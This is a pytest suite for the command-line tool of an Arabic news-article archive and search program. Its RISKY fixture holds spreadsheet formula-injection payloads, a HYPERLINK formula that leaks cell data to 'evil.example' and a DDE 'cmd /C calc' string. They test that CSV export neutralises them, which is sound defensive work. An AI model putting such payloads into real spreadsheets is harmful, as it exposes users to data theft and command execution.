"""The commands as a person or a script runs them."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from archive.samples import pages
from indexer.cli.group import COMMANDS
from web.cli import WEB_COMMANDS, main

PAGE = """<html><head><title>افتتاح معرض الخزف | جريدة الواحة</title></head><body>
<nav><a href="/">الرئيسية</a> <a href="/sport">رياضة</a></nav>
<article><h1>افتتاح معرض الخزف في بلدة النخيل</h1>
<p>افتتح في بلدة النخيل صباح اليوم معرض الخزف السنوي بمشاركة أربعين حرفيًا من القرى المجاورة.</p>
<p>وقالت مديرة المعرض إن الزوار يستطيعون تجربة العجلة بأنفسهم حتى نهاية الأسبوع المقبل.</p></article>
</body></html>"""


def run(archive: Path | None, *arguments: str, status: int = 0, stdin: bytes | None = None) -> Result:
    options = ["--archive", str(archive)] if archive else []
    result = CliRunner().invoke(main, [*options, *arguments], input=stdin)
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    assert result.exit_code == status, result.output
    return result


@pytest.fixture
def page(tmp_path: Path) -> Path:
    path = tmp_path / "page.html"
    path.write_text(PAGE, encoding="utf-8")
    return path


@pytest.fixture
def archive(tmp_path: Path, page: Path) -> Path:
    run(tmp_path / "archive", "add", str(page))
    return tmp_path / "archive"


@pytest.mark.parametrize("command", [*COMMANDS, *WEB_COMMANDS])
def test_every_command_has_help(command):
    assert "Usage:" in run(None, command, "--help").output


def test_the_list_of_commands_tells_what_each_command_tells(archive):
    for name, (_, line) in {**COMMANDS, **WEB_COMMANDS}.items():
        told = " ".join(run(None, name, "--help").output.split())
        assert line.split(";")[0].removesuffix(".") in told, name


def test_add_prints_a_summary_for_programs(tmp_path, page):
    summary = json.loads(run(tmp_path / "a", "add", str(page), "--json").stdout)
    assert (summary["added"], summary["updated"], summary["unchanged"], summary["failed"]) == (1, 0, 0, [])
    again = json.loads(run(tmp_path / "a", "add", str(page), "--json").stdout)
    assert (again["added"], again["unchanged"]) == (0, 1)


def test_a_bad_source_is_named_and_the_rest_goes_on(tmp_path, page):
    folder = tmp_path / "pages"
    folder.mkdir()
    page.rename(folder / "page.html")
    (folder / "empty.html").write_bytes(b"")
    result = run(tmp_path / "a", "add", str(folder), str(tmp_path / "gone.html"), "--json", status=1)
    summary = json.loads(result.stdout)
    assert summary["added"] == 1
    assert sorted(Path(one["source"]).name for one in summary["failed"]) == ["empty.html", "gone.html"]
    assert all(one["error"].startswith(one["source"]) for one in summary["failed"])


def test_add_reads_standard_input(tmp_path):
    result = run(tmp_path / "a", "add", "-", "--kind", "html", "--json", stdin=PAGE.encode())
    assert json.loads(result.stdout)["added"] == 1


def test_clean_prints_one_object_a_line_and_touches_no_archive(tmp_path, page, monkeypatch):
    monkeypatch.setenv("KHIZANA_ARCHIVE", str(tmp_path / "none"))
    (record,) = [json.loads(line) for line in run(None, "clean", str(page)).stdout.splitlines()]
    assert list(record) == [
        "source", "id", "url", "site", "title", "author", "published", "published_as_printed",
        "language", "paragraphs", "removed", "modified", "section", "image", "metadata",
    ]  # fmt: skip
    assert record["title"] == "افتتاح معرض الخزف في بلدة النخيل"
    assert (record["published"], record["author"], record["url"]) == (None, None, None)
    assert len(record["paragraphs"]) == 2
    assert all(set(line) == {"text", "reason"} for line in record["removed"])
    assert not (tmp_path / "none").exists()


@pytest.mark.parametrize(
    "query", ["الخزف", "الخَزَف", "حرفيا", "حرفيًا", '"معرض الخزف"', "عنوان:النخيل", "الخز*"]
)
def test_search_for_programs(archive, query):
    answer = json.loads(run(archive, "search", query, "--json").stdout)
    assert answer["total"] == 1
    assert {"id", "title", "url", "site", "published", "score", "snippet"} <= set(answer["hits"][0])
    assert {"took_ms", "facets"} <= set(answer)


def test_search_for_people(archive):
    output = run(archive, "search", "الخزف").output
    assert "افتتاح معرض الخزف" in output
    assert "nothing found" in run(archive, "search", "طائرة").output


def test_a_query_that_cannot_be_read_says_where(archive):
    output = run(archive, "search", "معرض (الخزف", status=1).output
    assert "→" in output
    assert "at character 6: معرض ⟦(⟧الخزف" in output


def test_a_query_may_begin_with_a_minus(archive):
    assert json.loads(run(archive, "search", "-طائرة", "--json").stdout)["total"] == 1
    assert run(archive, "search", "الخزف", "--lmit", "3", status=2)


@pytest.mark.parametrize("form", ["jsonl", "csv"])
def test_batch_search_prints_trec_runs(archive, tmp_path, form):
    path = tmp_path / f"queries.{form}"
    if form == "jsonl":
        path.write_text(
            '{"id": "q1", "text": "معرض (الخزف"}\n{"id": "q2", "text": "طائرة"}\n', encoding="utf-8"
        )
    else:
        path.write_text("id,text\nq1,معرض (الخزف\nq2,طائرة\n", encoding="utf-8")
    lines = run(archive, "search", "--queries", str(path), "--limit", "5").stdout.splitlines()
    fields = [line.split(" ") for line in lines]
    assert [(one[0], one[1], one[3], one[5]) for one in fields] == [("q1", "Q0", "1", "khizana")]
    assert float(fields[0][4]) > 0


def test_batch_search_uses_the_ids_of_records(tmp_path):
    records = tmp_path / "records.jsonl"
    records.write_text('{"id": "doc/7", "text": "حصاد الزيتون بدأ في القرية."}\n', encoding="utf-8")
    run(tmp_path / "a", "add", "--as-is", str(records))
    queries = tmp_path / "queries.jsonl"
    queries.write_text('{"id": 1, "text": "الزيتون"}\n', encoding="utf-8")
    assert run(tmp_path / "a", "search", "--queries", str(queries)).stdout.startswith("1 Q0 doc/7 1 ")


def test_a_bad_line_of_a_batch_is_told_and_the_rest_goes_on(archive, tmp_path):
    path = tmp_path / "queries.jsonl"
    path.write_text(
        '{"id": "a", "text": "الخزف"}\nnot json\n{"id": "b", "text": "الخزف"}\n', encoding="utf-8"
    )
    result = run(archive, "search", "--queries", str(path), "--format", "json", status=1)
    assert [json.loads(line)["id"] for line in result.stdout.splitlines()] == ["a", "b"]
    assert f"{path}:2" in result.stderr


def article_id(archive: Path) -> str:
    return json.loads(run(archive, "list", "--json").stdout)["articles"][0]["id"]


def test_show(archive):
    identifier = article_id(archive)
    assert "حتى نهاية الأسبوع المقبل" in run(archive, "show", identifier).output
    assert "الرئيسية" not in run(archive, "show", identifier).output
    assert "الرئيسية" in run(archive, "show", identifier, "--removed").output
    assert run(archive, "show", identifier, "--raw").stdout_bytes == PAGE.encode()
    assert json.loads(run(archive, "show", identifier, "--json").stdout)["id"] == identifier
    assert "no article" in run(archive, "show", "none", status=1).output


def test_remove_takes_the_article_out_of_the_search_too(archive):
    identifier = article_id(archive)
    result = run(archive, "remove", identifier, "none", "--json", status=1)
    assert json.loads(result.stdout)["removed"] == [identifier]
    assert json.loads(run(archive, "search", "الخزف", "--json").stdout)["total"] == 0
    assert "0 articles: sound" in run(archive, "check").output


def test_rebuild_and_check(archive):
    assert "1 article: sound" in run(archive, "check").output
    for path in (archive / "index").rglob("*"):
        if path.is_file():
            path.unlink()
    assert "rebuild" in run(archive, "check", status=1).output
    assert "rebuild" in run(archive, "search", "الخزف", status=1).output
    run(archive, "rebuild")
    assert json.loads(run(archive, "search", "الخزف", "--json").stdout)["total"] == 1


def test_check_repairs_the_index(archive):
    for path in (archive / "index").rglob("*"):
        if path.is_file():
            path.write_bytes(b"damage")
    assert json.loads(run(archive, "check", "--json", status=1).stdout)["problems"]
    assert json.loads(run(archive, "check", "--repair", "--json").stdout)["problems"] == []
    assert json.loads(run(archive, "search", "الخزف", "--json").stdout)["total"] == 1


def test_stats(archive):
    facts = json.loads(run(archive, "stats", "--json").stdout)
    assert (facts["articles"], facts["undated"], facts["index"]) == (1, 1, "current")


@pytest.mark.parametrize("form", ["jsonl", "csv"])
def test_an_export_can_be_added_again(archive, tmp_path, form):
    exported = tmp_path / f"out.{form}"
    run(archive, "export", "--format", form, "--output", str(exported))
    run(tmp_path / "copy", "add", "--as-is", str(exported))
    before, after = (
        json.loads(run(one, "show", article_id(one), "--json").stdout) for one in (archive, tmp_path / "copy")
    )
    for name in ("id", "title", "author", "site", "url", "published", "paragraphs", "language"):
        assert before[name] == after[name], name


RECORD = {
    "id": "waha-7",
    "title": "موسم الرمان يبدأ في الوادي",
    "author": "سلمى القاضي",
    "site": "waha.example",
    "url": "https://waha.example/7",
    "published": "السبت 7 مارس 2020 - 10:30",
    "modified": "2020-03-08T09:00+02:00",
    "section": "زراعة",
    "image": "https://waha.example/i/7.jpg",
    "language": "ar",
    "text": "بدأ المزارعون جني الرمان.\nوتفتح السوق أبوابها يوم الخميس.",
    "edition": 3,
    "desk": {"city": "الواحة", "tags": ["رمان", "سوق"]},
}


@pytest.mark.parametrize("form", ["jsonl", "csv"])
def test_an_export_added_again_is_the_same_article_each_time(tmp_path, form):
    (tmp_path / "a.jsonl").write_text(json.dumps(RECORD), encoding="utf-8")
    run(tmp_path / "0", "add", "--as-is", str(tmp_path / "a.jsonl"))
    for number in range(2):
        exported = tmp_path / f"{number}.{form}"
        run(tmp_path / str(number), "export", "--format", form, "--output", str(exported))
        run(tmp_path / str(number + 1), "add", "--as-is", str(exported))
    told = [json.loads(run(tmp_path / name, "show", "waha-7", "--json").stdout) for name in "012"]
    first = told[0]
    assert first["published"] == "2020-03-07T10:30"
    assert first["metadata"] == {"edition": 3, "desk": RECORD["desk"]}
    for again in told[1:]:
        kept = {name: value for name, value in again.items() if name in RECORD.keys() | {"paragraphs"}}
        assert kept == {name: first[name] for name in kept}
        assert again["published_as_printed"] == RECORD["published"]
        assert {name: again["metadata"][name] for name in first["metadata"]} == first["metadata"]
        assert again["metadata"].keys() - first["metadata"].keys() <= {"source_file", "sha256", "removed"}


RISKY = {
    "id": "=7",
    "title": '=HYPERLINK("http://evil.example"&A1)',
    "author": "'@SUM(1)",
    "site": "+waha.example",
    "text": "-2+3+cmd|' /C calc'!A0\nوتفتح السوق أبوابها يوم الخميس.",
    "edition": "=3",
}


def test_a_table_runs_nothing_and_is_read_back_as_it_was(tmp_path):
    (tmp_path / "a.jsonl").write_text(json.dumps(RISKY), encoding="utf-8")
    run(tmp_path / "0", "add", "--as-is", str(tmp_path / "a.jsonl"))
    table = tmp_path / "a.csv"
    run(tmp_path / "0", "export", "--format", "csv", "--output", str(table))
    (row,) = csv.DictReader(io.StringIO(table.read_text("utf-8"), newline=""))
    assert {name: row[name] for name in RISKY if name != "edition"} == {
        name: "'" + text for name, text in RISKY.items() if name != "edition"
    }
    run(tmp_path / "1", "add", "--as-is", str(table))
    before, after = (json.loads(run(tmp_path / name, "show", "=7", "--json").stdout) for name in "01")
    for name in ("id", "title", "author", "site", "paragraphs", "language"):
        assert before[name] == after[name], name
    assert after["metadata"]["edition"] == "=3"


def test_export_for_excel_begins_with_a_byte_order_mark(archive, tmp_path):
    path = tmp_path / "out.csv"
    run(archive, "export", "--format", "csv", "--bom", "--output", str(path))
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    (row,) = csv.DictReader(io.StringIO(path.read_text("utf-8-sig"), newline=""))
    assert row["title"] == "افتتاح معرض الخزف في بلدة النخيل"
    printed = run(archive, "export", "--format", "csv", "--bom").stdout_bytes
    assert printed == path.read_bytes()
    assert "--bom goes with" in run(archive, "export", "--bom", status=2).output


def test_an_export_is_limited_as_a_search_is(samples):
    def exported(*options: str) -> list[str]:
        lines = run(samples.folder, "export", *options).stdout.splitlines()
        return [json.loads(line)["id"] for line in lines]

    limits = ("--year", "2022", "--from", "2022-03")
    wanted = json.loads(run(samples.folder, "search", "المدينة", *limits, "--json", "--limit", "100").stdout)
    assert exported("--query", "المدينة", *limits) == [hit["id"] for hit in wanted["hits"]]
    every, some = exported(), exported("--year", "2022")
    assert set(some) < set(every)
    assert sorted(some + exported("--not-year", "2022")) == sorted(every)


@pytest.mark.parametrize(
    "command", ["search كتاب", "list", "show x", "remove x", "rebuild", "check", "stats", "export"]
)
def test_without_an_archive_the_next_step_is_told(tmp_path, command):
    assert "khizana add" in run(tmp_path / "none", *command.split(), status=1).output
    assert not (tmp_path / "none").exists()


def test_the_archive_is_found_by_option_variable_or_user_folder(tmp_path, page, monkeypatch):
    monkeypatch.setenv("KHIZANA_ARCHIVE", str(tmp_path / "variable"))
    run(None, "add", str(page))
    assert (tmp_path / "variable").is_dir()
    run(tmp_path / "option", "add", str(page))
    run(None, "add", str(page), "--archive", str(tmp_path / "late"))
    assert (tmp_path / "option").is_dir()
    assert (tmp_path / "late").is_dir()
    monkeypatch.delenv("KHIZANA_ARCHIVE")
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.setattr("platformdirs.user_data_path", lambda name, **_: tmp_path / "data" / name)
    run(None, "add", str(page))
    assert (tmp_path / "data" / "khizana" / "archive").is_dir()


def test_moving_the_folder_moves_the_archive(archive, tmp_path):
    archive.rename(tmp_path / "elsewhere")
    assert json.loads(run(tmp_path / "elsewhere", "search", "الخزف", "--json").stdout)["total"] == 1


def test_demo_shows_the_main_job(tmp_path):
    output = run(tmp_path / "a", "demo", "--no-serve").output
    assert "$ khizana add " in output
    assert str(pages().name) in output
    assert "nothing found" not in output
    assert re.search(r"\$ khizana explain 'مهرجان' \S+\n", output)
    assert re.search(r"\$ khizana show \S+ --removed\n", output)
    assert " lines kept, " in output


def test_clean_explains_every_line_with_its_number_and_reason(tmp_path, page):
    record = json.loads(run(None, "clean", str(page)).stdout)
    explained = run(None, "clean", "--explain", str(page)).stdout
    assert record["title"] == explained.split("\n")[0]
    lines = re.findall(r"^ +(\d+) (?:− \[([^\]]+)\] |  )(.+)$", explained, re.MULTILINE)
    assert [int(number) for number, _, _ in lines] == list(range(1, len(lines) + 1))
    assert [text for _, reason, text in lines if not reason] == record["paragraphs"]
    assert [text for _, reason, text in lines if reason] == [line["text"] for line in record["removed"]]
    assert f"{len(record['paragraphs'])} lines kept, {len(record['removed'])} removed" in explained


def test_clean_says_what_a_page_is_that_is_no_article(tmp_path):
    links = "".join(f'<li><a href="/{n}">خبر قصير عن معرض الكتاب رقم {n}</a></li>' for n in range(30))
    home = tmp_path / "home.html"
    home.write_text(f"<html><title>الرئيسية</title><body><ul>{links}</ul></body></html>", encoding="utf-8")
    record = json.loads(run(None, "clean", str(home)).stdout)
    assert record["no_article"]
    assert record["paragraphs"] == []
    assert len(record["removed"]) == 30
    explained = run(None, "clean", "--explain", str(home)).stdout
    assert "no article" in explained.split("\n")[0]
    assert "0 lines kept, 30 removed" in explained


@pytest.mark.skipif(sys.platform != "linux", reason="the system says it otherwise")
def test_the_peak_of_memory_is_that_of_the_process_itself():
    big = bytearray(300 << 20)
    big[::4096] = b"x" * len(big[::4096])
    said = subprocess.run(
        [sys.executable, "-c", "from indexer.cli.add import peak_memory; print(peak_memory())"],
        capture_output=True,
        check=True,
    )
    assert 1 << 20 < int(said.stdout) < 150 << 20
    del big
